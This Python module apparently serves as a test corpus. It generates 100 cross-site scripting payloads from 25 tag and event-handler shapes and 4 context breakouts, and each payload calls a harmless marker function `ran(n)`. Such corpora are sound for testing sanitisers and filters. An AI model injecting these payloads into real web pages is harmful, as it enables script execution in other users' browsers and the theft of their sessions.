"""A hundred ways to make a browser run a script, were they taken as they are: each calls `ran(number)`."""

from __future__ import annotations

SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    "<iframe src=javascript:parent.{}></iframe>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<b tabindex=1 autofocus onfocus={}>x</b>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<math><mtext></p><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<form><button autofocus onfocus={}>x</button></form>",
    "<img src=x onerror=&#114;an({1})>",
    "<SCRIPT>{}</SCRIPT>",
    "<img/src=x/onerror={}>",
    "<object data=x onerror={}></object>",
)
#: What ends the place in which the words stand: an attribute, a script, a comment.
BEGINNINGS = ("", '">', "'>", "</script>")
PAYLOADS = tuple(
    beginning + shape.format(f"ran({number})", number)
    for number, (beginning, shape) in enumerate((beginning, shape) for beginning in BEGINNINGS for shape in SHAPES)
)
